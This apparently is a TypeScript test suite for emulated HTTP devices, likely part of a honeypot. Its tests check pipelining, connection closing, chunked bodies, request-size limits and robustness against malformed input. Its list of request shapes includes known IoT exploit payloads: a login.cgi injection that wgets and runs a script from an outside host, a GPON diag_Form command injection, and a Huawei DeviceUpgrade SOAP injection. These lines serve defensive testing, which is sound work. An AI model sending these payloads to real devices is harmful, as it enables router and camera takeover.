import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseHttpResponses } from "../../decode/http.js";
import { httpDate } from "./http-answer.js";
import {
  type DeviceRequest,
  type HttpDevice,
  httpPersona,
  MAX_REQUEST_BYTES,
} from "./http-persona.js";
import type { Persona, PersonaReply } from "./persona.js";
import {
  bodyText,
  bytes,
  drive,
  header,
  oneResponse,
  replyBytes,
  splitAt,
  TEST_NOW,
  testCtx,
  text,
} from "./persona-fixture.js";
import { PERSONAS } from "./registry.js";

/** A device that answers each request with what it understood of it. */
const echoDevice: HttpDevice = {
  name: "echo",
  summary: "test device",
  ports: [8888],
  respond: (req: DeviceRequest, ctx) => ({
    status: 200,
    headers: [
      ["Date", httpDate(ctx.now())],
      ["Content-Length", ""],
    ],
    body: `${req.method} ${req.path} q=${req.query} v=${req.version} body=${text(req.body)} ka=${req.keepAlive}`,
  }),
  reject: (status) => ({ status, headers: [["Server", "echo"]], body: `rejected ${status}` }),
};
const echo = httpPersona(echoDevice);

function statuses(replies: PersonaReply[]): number[] {
  return replies.map((r) => oneResponse(r).status);
}

describe("httpPersona: framing and connection semantics", () => {
  it("keeps an HTTP/1.1 connection and answers pipelined requests in order", () => {
    const two = "GET /a HTTP/1.1\r\nHost: x\r\n\r\nGET /b?c=1 HTTP/1.1\r\nHost: x\r\n\r\n";
    const replies = drive(echo, [two]);
    expect(replies.map((r) => bodyText(oneResponse(r)))).toEqual([
      "GET /a q= v=HTTP/1.1 body= ka=true",
      "GET /b q=c=1 v=HTTP/1.1 body= ka=true",
    ]);
    expect(replies.every((r) => r.close === undefined)).toBe(true);
  });

  it("closes after HTTP/1.0 and after Connection: close, ignoring what follows", () => {
    const r10 = drive(echo, [
      "GET /a HTTP/1.0\r\n\r\nGET /b HTTP/1.1\r\n\r\n",
      "GET /c HTTP/1.1\r\n\r\n",
    ]);
    expect(r10).toHaveLength(1);
    expect(r10[0]?.close).toBe(true);
    const rc = drive(echo, ["GET /a HTTP/1.1\r\nConnection: Close\r\n\r\nGET /b HTTP/1.1\r\n\r\n"]);
    expect(rc).toHaveLength(1);
    expect(rc[0]?.close).toBe(true);
  });

  it("waits for a Content-Length body, however it arrives", () => {
    const s = echo.open(testCtx(8888));
    expect(s.data(bytes("POST /p HTTP/1.1\r\nContent-Length: 5\r\n\r\nab"))).toEqual([]);
    const r = s.data(bytes("cdeGET /n HTTP/1.1\r\n\r\n"));
    expect(r.map((x) => bodyText(oneResponse(x)))).toEqual([
      "POST /p q= v=HTTP/1.1 body=abcde ka=true",
      "GET /n q= v=HTTP/1.1 body= ka=true",
    ]);
  });

  it("reads chunked bodies and the uc-httpd shape (a body line and no headers)", () => {
    const chunked =
      "POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n2;x=y\r\nde\r\n0\r\n\r\n";
    expect(bodyText(oneResponse(drive(echo, [chunked])[0] as PersonaReply))).toContain(
      "body=abcde",
    );
    const uc = "POST /login.htm HTTP/1.1\r\ncommand=login&username=AAAA&password=PoC\r\n";
    const r = drive(echo, [uc]);
    expect(bodyText(oneResponse(r[0] as PersonaReply))).toContain(
      "body=command=login&username=AAAA",
    );
  });

  it("answers bytes that are not HTTP with the device's 400 and closes", () => {
    for (const junk of [
      "\x16\x03\x01\x02\x00\x01\x00",
      "SSH-2.0-Go\r\n",
      "NICK x\r\n",
      "\r\x00",
      "get / HTTP/1.1\r\n\r\n",
    ]) {
      const r = drive(echo, [junk, "GET / HTTP/1.1\r\n\r\n"]);
      expect(r).toHaveLength(1);
      expect(oneResponse(r[0] as PersonaReply).status).toBe(400);
      expect(r[0]?.close).toBe(true);
    }
    const after = drive(echo, ["GET / HTTP/1.1\r\n\r\n\x00\x01binary"]);
    expect(statuses(after)).toEqual([200, 400]);
  });

  it("bounds requests: a long head gets 400, a long declared body 413, both once", () => {
    const s = echo.open(testCtx(8888));
    const line = bytes(`GET /${"a".repeat(8191)}`);
    const replies: PersonaReply[] = [];
    for (let i = 0; i < 20; i++) replies.push(...s.data(line));
    expect(statuses(replies)).toEqual([400]);
    const big = drive(echo, [`POST / HTTP/1.1\r\nContent-Length: ${MAX_REQUEST_BYTES}\r\n\r\n`]);
    expect(statuses(big)).toEqual([413]);
    expect(big[0]?.close).toBe(true);
  });

  it("answers HEAD without a body but with its length, and dates from the context", () => {
    const r = drive(echo, ["HEAD /h HTTP/1.1\r\n\r\n"]);
    const res = oneResponse(r[0] as PersonaReply, "HEAD");
    expect(res.body.length).toBe(0);
    expect(Number(header(res, "content-length"))).toBeGreaterThan(0);
    expect(header(res, "date")).toBe(httpDate(TEST_NOW));
    expect(header(res, "date")).toBe("Thu, 14 Jun 2018 12:00:00 GMT");
  });

  it("delays each answer by the delay-ms option, clamped", () => {
    const r = drive(
      echo,
      ["GET / HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n\r\n"],
      testCtx(8888, { "delay-ms": "250" }),
    );
    expect(r.map((x) => x.delayMs)).toEqual([250, 250]);
    expect(
      drive(echo, ["GET / HTTP/1.1\r\n\r\n"], testCtx(8888, { "delay-ms": "x" }))[0]?.delayMs,
    ).toBe(undefined);
    expect(echo.options?.["delay-ms"]).toBeDefined();
  });
});

/** Request shapes from the exploit notes and ordinary scanners, for the shared properties. */
const SHAPES = [
  "GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n",
  "GET / HTTP/1.0\r\n\r\n",
  "HEAD /index.html HTTP/1.1\r\nHost: x\r\n\r\n",
  `POST /login.htm HTTP/1.1\r\ncommand=login&username=${"A".repeat(85)}&password=PoC\r\n\r\n`,
  "GET /ayefeaturesconvert.js HTTP/1.1\r\nHost: 192.0.2.1:8080\r\n\r\n",
  "GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$ HTTP/1.1\r\nHost: x\r\n\r\n",
  "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nContent-Length: 54\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=`id`&ipv=0",
  "GET /diag.html?images/ HTTP/1.1\r\nHost: x\r\n\r\n",
  'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 430\r\nConnection: keep-alive\r\nAuthorization: Digest username="dslf-config", realm="HuaweiHomeGateway"\r\n\r\n<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(echo)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>\r\n\r\n',
  "POST /picdesc.xml HTTP/1.1\r\nHost: 192.0.2.1:52869\r\nContent-Length: 20\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<NewInternalClient/>",
  "POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\nContent-Length: 0\r\n\r\n",
  "POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n",
  "GET /nothing/here HTTP/1.1\r\nHost: x\r\n\r\n",
  "GET /robots.txt\r\n",
  "POST /login.htm HTTP/1.1\r\ncommand=login&username=root&password=\r\n",
  "POST /t HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n2;ext=1\r\nab\r\n1\r\nc\r\n0\r\nX-Trailer: 1\r\n\r\n",
  "POST /s HTTP/1.1\r\nContent-Length: 9999\r\n\r\n<soap:Envelope><soap:Body/></soap:Envelope  >",
  "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03",
];

const HTTP_PERSONAS: Persona[] = [...PERSONAS.values()].filter(
  (p) => p.name !== "telnet" && p.name !== "generic",
);
HTTP_PERSONAS.push(echo);

function flat(replies: PersonaReply[]): string {
  return replies.map((r) => `${r.close === true ? "C" : "-"}${text(replyBytes(r))}`).join("|");
}

describe("every HTTP persona", () => {
  /** Shapes, their prefixes, and bytes from the HTTP alphabet, run together. */
  const piece = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...SHAPES).map(bytes) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...SHAPES), fc.nat())
        .map(([s, k]) => bytes(s.slice(0, k % (s.length + 1)))),
    },
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ maxLength: 40 })
        .map((u) => u.map((x) => [13, 10, 32, 58, 71, 69, 84, 47, 62, x][x % 10] as number)),
    },
  );
  const stream = fc.array(piece, { minLength: 1, maxLength: 5 }).map((xs) => {
    const out = new Uint8Array(xs.reduce((n, x) => n + x.length, 0));
    let at = 0;
    for (const x of xs) {
      out.set(x, at);
      at += x.length;
    }
    return out;
  });

  it.each(HTTP_PERSONAS.map((p) => [p.name, p] as const))(
    "%s: any split gives the same replies",
    (_n, p) => {
      fc.assert(
        fc.property(stream, fc.array(fc.nat(2000), { maxLength: 12 }), (b, cuts) => {
          const whole = drive(p, [b]);
          expect(flat(drive(p, splitAt(b, cuts)))).toBe(flat(whole));
          expect(flat(drive(p, splitAt(b, [...b.keys()])))).toBe(flat(whole));
        }),
        { numRuns: 60 },
      );
    },
  );

  it.each(HTTP_PERSONAS.map((p) => [p.name, p] as const))(
    "%s: every reply is one well-formed response",
    (_n, p) => {
      for (const shape of SHAPES) {
        // The CRLF ends the HTTP/0.9-style line; after any other shape it is an ignored empty line.
        const replies = drive(p, [shape, "\r\n"]);
        expect(replies.length).toBeGreaterThan(0);
        const method = shape.startsWith("HEAD") ? "HEAD" : "GET";
        for (const r of replies) oneResponse(r, method);
        expect(replies.filter((r) => r.close === true).length).toBeLessThanOrEqual(1);
      }
    },
  );

  it.each(HTTP_PERSONAS.map((p) => [p.name, p] as const))(
    "%s: garbage never throws and stays bounded",
    (_n, p) => {
      fc.assert(
        fc.property(fc.array(fc.uint8Array({ maxLength: 3000 }), { maxLength: 8 }), (chunks) => {
          const replies = drive(p, chunks);
          const closes = replies.filter((r) => r.close === true).length;
          expect(closes).toBeLessThanOrEqual(1);
          if (closes === 1) expect(replies[replies.length - 1]?.close).toBe(true);
          for (const r of replies) expect(parseHttpResponses(replyBytes(r)).length).toBe(1);
        }),
        { numRuns: 100 },
      );
      // A megabyte of header lines that never end is cut off once, at the bound.
      const s = p.open(testCtx(p.ports[0] ?? 0));
      const replies = [...s.data(bytes("GET / HTTP/1.1\r\n"))];
      const filler = bytes(
        "X-Filler: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n".repeat(
          100,
        ),
      );
      for (let i = 0; i < 150; i++) replies.push(...s.data(filler));
      expect(replies.map((r) => oneResponse(r).status)).toEqual([400]);
    },
  );
});
